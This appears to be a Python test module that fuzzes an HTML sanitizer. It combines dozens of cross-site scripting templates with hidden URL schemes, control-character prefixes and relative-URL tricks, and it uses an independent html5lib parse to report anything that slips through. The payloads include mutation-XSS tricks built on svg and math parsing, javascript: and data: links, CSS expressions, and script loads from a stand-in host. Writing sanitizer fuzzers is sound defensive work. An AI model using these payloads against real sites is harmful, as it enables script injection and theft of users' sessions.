"""Thousands of ways to get a script, a form or a foreign address through a cleaner, and an oracle that finds them."""

from __future__ import annotations

import html as html_module
import itertools
import re
from collections.abc import Iterator
from xml.etree.ElementTree import Element

import html5lib

from console.connectors import html_rules

ALLOWED_ATTRIBUTES = {name for names in html_rules.ATTRIBUTES.values() for name in names}
SHELL = {"html", "head", "body"}


def elements(html: str) -> list[Element]:
    """What a browser would make of it: an independent parser, with scripting off and on alike."""
    tree = html5lib.parse(html, treebuilder="etree", namespaceHTMLElements=False)
    return [element for element in tree.iter() if isinstance(element.tag, str)]


def survivors(html: str) -> list[str]:
    """Everything in the HTML that must not be there."""
    return [problem for element in elements(html) for problem in _problems(element)]


def _problems(element: Element) -> Iterator[str]:
    if element.tag not in html_rules.TAGS | SHELL:
        yield f"element {element.tag}"
    for name, value in element.attrib.items():
        if name not in ALLOWED_ATTRIBUTES:
            yield f"attribute {name}"
        elif name == "href" and not re.match(r"(https?://[^/\\]|mailto:.|tel:.)", value, re.IGNORECASE):
            yield f"link {value}"
        elif name == "src" and not value.lower().startswith("cid:"):
            yield f"source {value}"
        elif name == "style" and not re.fullmatch(r"((text|font)-[a-z]+:[a-z0-9-]+;?)+", value):
            yield f"style {value}"


CALLS = ["alert(1)", "alert`1`", "location='http://e.example'"]
TEMPLATES = [
    "<script>{}</script>",
    "<script src=//e.example/x.js>{}</script>",
    "<scr<script>ipt>{}</scr</script>ipt>",
    "<ScRiPt/x>{}</sCrIpT >",
    "<img src=x onerror={}>",
    "<img src=x one\x00rror={}>",
    "<img/src=x/onerror={}>",
    "<img src='x' onload=\"{}\" o\nnerror='{}'>",
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<svg><style><img src=x onerror={}></style></svg>",
    "<svg></p><style><a id='</style><img src=x onerror={}>'>",
    "<svg><a xlink:href='javascript:{}'><text>x</text></a></svg>",
    "<svg><animate onbegin={} attributeName=x>",
    "<svg><use href='data:image/svg+xml,<svg onload={}>'>",
    "<svg><foreignObject><img src=x onerror={}></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={}&gt;'>",
    "<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><textarea><a title='</textarea><img src onerror={}>'>",
    "<math><mi//xlink:href='data:x,<script>{}</script>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={}>",
    "<noscript><p title='</noscript><img src=x onerror={}>'>",
    "<title><p title='</title><img src=x onerror={}>'>",
    "<textarea><p title='</textarea><img src=x onerror={}>'>",
    "<xmp><p title='</xmp><img src=x onerror={}>'>",
    "<iframe><p title='</iframe><img src=x onerror={}>'></iframe>",
    "<noembed><p title='</noembed><img src=x onerror={}>'></noembed>",
    "<plaintext><img src=x onerror={}>",
    "<template><script>{}</script></template>",
    "<select><template><img src=x onerror={}></template></select>",
    "<a><table><td></a><style><img src=x onerror={}></style>",
    "<table><a href='javascript:{}'>x</a></table>",
    "<!--><img src=x onerror={}>-->",
    "<!--[if gte mso 9]><script>{}</script><![endif]-->",
    "<![CDATA[<img src=x onerror={}>]]>",
    "<?xml version='1.0'?><script>{}</script>",
    "<style>@import 'javascript:{}';</style>",
    "<p style='background:url(javascript:{})'>x</p>",
    "<p style='width:expression({})'>x</p>",
    "<p style='text-align:center;behavior:url(x);-moz-binding:url(http://e.example/#{})'>x</p>",
    "<link rel=stylesheet href='javascript:{}'>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<base href='javascript:{}//'><a href=x>x</a>",
    "<object data='javascript:{}'></object>",
    "<embed src='javascript:{}'>",
    "<iframe src='javascript:{}'></iframe>",
    "<iframe srcdoc='<script>{}</script>'></iframe>",
    "<frameset><frame src='javascript:{}'></frameset>",
    "<form action='javascript:{}'><input type=submit formaction='javascript:{}'><button>x</button></form>",
    "<input autofocus onfocus={}>",
    "<video><source onerror={}></video>",
    "<audio src=x onerror={}></audio>",
    "<details open ontoggle={}>x</details>",
    "<marquee onstart={}>x</marquee>",
    "<body onload={}>",
    "<body background='javascript:{}'>",
    "<table background='javascript:{}'><td background='http://e.example/x'>x</table>",
    "<img src='javascript:{}'>",
    "<img srcset='http://e.example/x 1x' src='data:text/html,<script>{}</script>'>",
    "<img dynsrc='javascript:{}' lowsrc='javascript:{}'>",
    "<a href='data:text/html,<script>{}</script>'>x</a>",
    "<a href='vbscript:{}'>x</a>",
    "<a href='file:///etc/passwd' ping='http://e.example/{}'>x</a>",
    "<p onclick={} tabindex=1>x</p>",
    "<div style='position:fixed;top:0;left:0;width:100%;height:100%' onmouseover={}>x</div>",
    "<a href='https://e.example/' target=_blank onclick={}>x</a>",
    "<img data-remote='javascript:{}'>",
    '<hr class="quoted"><img src=x onerror={}>',
]
SCHEMES = [
    "javascript:",
    "JaVaScRiPt:",
    "vbscript:",
    "data:text/html,",
    "file:///",
    "about:",
    "blob:",
    "chrome://",
    "x:",
    "cid:",
]
BEFORE = [
    "",
    " ",
    "\t",
    "\n",
    "\r",
    "\x01",
    "\x1f",
    "\x7f",
    "\u2028",
    "\u2029",
    "\u00a0",
    "\ufeff",
    "\u200b",
    "&#1;",
    "&#x2028;",
    "&Tab;",
]
RELATIVE = [
    "/x",
    "//e.example/x",
    "\\\\e.example\\x",
    "/\\e.example",
    "///e.example",
    "x",
    "../x",
    "?x",
    "#x",
    ".",
    "https:x",
    "https:/x",
]
RELATIVE += [
    "http:///e.example",
    "https:\\\\e.example",
    "http://",
    "mailto:",
    "tel:",
    "ht\ntps://e.example",
    "\\x",
    ";x",
    "C:\\x",
    "http:@e",
]


def links() -> Iterator[str]:
    """Schemes cut and hidden in every way that some parser forgives."""
    for scheme, before in itertools.product(SCHEMES, BEFORE):
        for inside in ("", "\t", "\n", "&#9;", "&#0;", "&colon;"):
            word = scheme[:4] + inside + scheme[4:]
            yield f'<a href="{before}{word}alert(1)">x</a>'
            yield f"<img src='{before}{word}alert(1)'>"
    yield from (f'<a href="{before}{target}">x</a>' for target in RELATIVE for before in BEFORE)


def nested() -> Iterator[str]:
    around = [
        "{}",
        "<p>{}</p>",
        "<table><tr>{}</tr></table>",
        "<b><p>{}</b></p>",
        "<svg>{}</svg>",
        "<math><mtext>{}</math>",
        "<style>{}",
    ]
    for template, call, outer in itertools.product(TEMPLATES, CALLS, around):
        yield outer.replace("{}", template.replace("{}", call))
        yield outer.replace("{}", template.replace("{}", html_module.escape(call)).upper())
